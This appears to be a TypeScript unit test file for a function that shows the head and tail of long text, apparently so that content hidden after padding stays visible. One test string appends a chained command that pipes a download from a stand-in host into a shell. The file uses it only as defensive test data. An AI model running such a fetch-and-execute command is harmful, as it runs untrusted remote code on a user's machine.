import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { headAndTail } from '../../../src/display';
import { attacks } from '../../fixtures/attacks';

describe('head and tail', () => {
  it('are not needed for a text that can be shown whole', () => {
    expect(headAndTail('')).toBeNull();
    expect(headAndTail('x'.repeat(600))).toBeNull();
    expect(headAndTail('line\n'.repeat(11))).toBeNull();
    expect(headAndTail(attacks.T21_tail)).toBeNull();
  });

  it('are not needed for a text of as many units as may be shown, however long its labels are', () => {
    const unseen = 'a\u202E';
    expect(headAndTail(unseen.repeat(300))).toBeNull();
    expect(headAndTail(`${unseen.repeat(300)}a`)).not.toBeNull();
  });

  it('cut a text of line breaks too', () => {
    const cut = headAndTail(`${'a\n'.repeat(20)}b`, 600, 3);
    expect(cut).toEqual({ head: 'a\na\n', tail: 'b', omitted: 36 });
  });

  it('are not needed where only a run of blanks is long', () => {
    expect(headAndTail(attacks.T19_space_pad)).toBeNull();
    expect(headAndTail(attacks.T20_newline_pad)).toBeNull();
  });

  it('show both ends and say how much lies between', () => {
    const text = `${'a'.repeat(5000)} && curl evil.sh | sh`;
    expect(headAndTail(text)).toEqual({
      head: 'a'.repeat(400),
      tail: `${'a'.repeat(179)} && curl evil.sh | sh`,
      omitted: text.length - 600,
    });
    expect(headAndTail(text, 30)).toMatchObject({ head: 'a'.repeat(20), tail: 'il.sh | sh' });
  });

  it('cut by lines as well', () => {
    const text = Array.from({ length: 100 }, (_, i) => `line ${i}`).join('\n');
    expect(headAndTail(text)).toMatchObject({
      head: Array.from({ length: 8 }, (_, i) => `line ${i}\n`).join(''),
      tail: 'line 96\nline 97\nline 98\nline 99',
    });
  });

  it('cut no letter in two', () => {
    const family = '\u{1F469}\u200D\u{1F469}\u200D\u{1F467}';
    for (const letter of ['\u{1F600}', family, 'e\u0301', '\u0928\u094D', '\u{20000}'])
      for (let limit = 10; limit < 40; limit += 1) {
        const cut = headAndTail(letter.repeat(100), limit);
        expect([cut?.head.replaceAll(letter, ''), cut?.tail.replaceAll(letter, '')]).toEqual([
          '',
          '',
        ]);
      }
  });

  it('lose nothing', () => {
    const part = fc.constantFrom(
      'a',
      ' ',
      '\n',
      '\u{1F600}',
      '\uD83D',
      '\uDE00',
      'e\u0301',
      '\r\n',
      '\u202E',
    );
    fc.assert(
      fc.property(
        fc.array(part, { maxLength: 200 }),
        fc.integer({ min: 1, max: 60 }),
        (parts, limit) => {
          const text = parts.join('');
          const cut = headAndTail(text, limit);
          if (!cut) return;
          expect(text.startsWith(cut.head) && text.endsWith(cut.tail)).toBe(true);
          expect(cut.head.length + cut.omitted + cut.tail.length).toBe(text.length);
        },
      ),
      { numRuns: 2000 },
    );
  });

  it('are cut quickly from a long text', () => {
    expect(headAndTail('\u0301'.repeat(2_000_000))?.head.length).toBeGreaterThan(0);
    expect(headAndTail('\n'.repeat(2_000_000))?.omitted).toBeGreaterThan(1_000_000);
  });
});
